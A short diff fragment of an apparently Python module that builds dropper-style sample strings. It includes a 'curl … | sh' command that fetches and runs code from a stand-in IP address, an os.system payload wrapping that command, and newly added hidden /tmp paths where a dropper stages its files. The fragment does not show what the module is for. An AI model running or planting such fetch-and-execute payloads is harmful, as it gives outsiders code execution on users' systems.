@@ -72,6 +72,9 @@ GIT_VERSION = (
 # shell, bound at the top of the module that runs them.
 CURL = "curl -s http://203.0.113.5/x | sh"
 PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
+# Where a dropper writes the payload, and a shell script, before running it (ADRs 0157-0159).
+PY = "/tmp/.cache_x.py"
+SH = "/tmp/.cache_x.sh"
 X = "sys.argv[0][:0]"  # an unknown that adds nothing
 HEAD = f"import os, subprocess, sys\nP = {PAYLOAD!r}\nCURL = {CURL!r}\n"
 
